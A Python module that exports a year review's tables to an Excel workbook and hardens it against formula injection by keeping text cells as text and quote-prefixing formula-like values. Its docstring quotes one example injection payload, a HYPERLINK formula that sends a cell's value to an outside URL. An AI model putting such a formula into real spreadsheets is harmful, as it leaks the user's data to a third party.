"""A run's tables as a spreadsheet (``<year>.xlsx``, a sheet per table) for people who work in Excel.

Every text cell is written as text, never as a formula: a cell's text comes from curated tables
or from the report itself, and a value such as ``=HYPERLINK("http://…?d="&B2,"x")`` would
otherwise be a live formula in Excel (CSV/formula injection). Text that starts with one of
OWASP's formula characters (``=``, ``+``, ``-``, ``@``, tab, CR) is also marked "quote prefix",
so that Excel keeps it text when someone edits the cell.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from . import labels, review as rv
from .atomic import atomic_path
from .tables import FORMULA_STARTS


def review_tables(r: rv.YearReview) -> dict[str, pd.DataFrame]:
    """The tables of one year review, by sheet name."""
    areas = labels.area_names(r.lang, r.year)  # the framework in force that year, as the pages use
    prov = pd.DataFrame(sorted((k, str(v)) for k, v in r.provenance.items()), columns=["field", "value"])
    return {
        "source": prov,
        "plan_funnel": rv.plan_funnel(r),
        "coverage_by_area": rv.coverage_by_area(r, areas),
        "task_accounting": rv.task_accounting(r),
        "tasks": rv.named_tasks(r),
        "evidence": r.evidence,
        "figures": rv.figures_table(r, areas),
        "problems": rv.problems_table(r),
        "commitments": r.commitments,
        "followups_of_last_year": rv.commitments_followed_up(r),
        "statutory_check": rv.statutory_check(r),
        "notes": pd.DataFrame({"note": rv.data_notes(r)}),
        **ledger_tables(r),
    }


def ledger_tables(r: rv.YearReview) -> dict[str, pd.DataFrame]:
    """The countdown ledger's sheets, where the region keeps one."""
    from . import ledger

    if not ledger.has_ledger(r):
        return {}
    return {"ledger": ledger.status_matrix(r).reset_index(), "reconciliation": ledger.reconciliation(r),
            "progress_by_unit": ledger.progress_by_unit(r)}


def write_review_workbook(r: rv.YearReview, target: Path) -> Path:
    """Write the review's tables to ``target`` (whole or not at all)."""
    with atomic_path(target) as tmp:
        with pd.ExcelWriter(tmp, engine="openpyxl") as xl:
            for sheet, df in review_tables(r).items():
                shown = df if not df.empty else pd.DataFrame({"(empty)": []})
                shown.to_excel(xl, sheet_name=sheet[:31], index=False)
            text_cells_as_text(xl.book)
    return Path(target)


def text_cells_as_text(workbook) -> None:
    """Make every text cell of an openpyxl ``workbook`` plain text (openpyxl takes text that
    starts with ``=`` for a formula), quote-prefixed where it starts like a formula. Call it on
    any workbook whose cells may hold text from the input, just before saving."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and isinstance(cell.value, str):
                    cell.data_type = "s"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    cell.quotePrefix = True
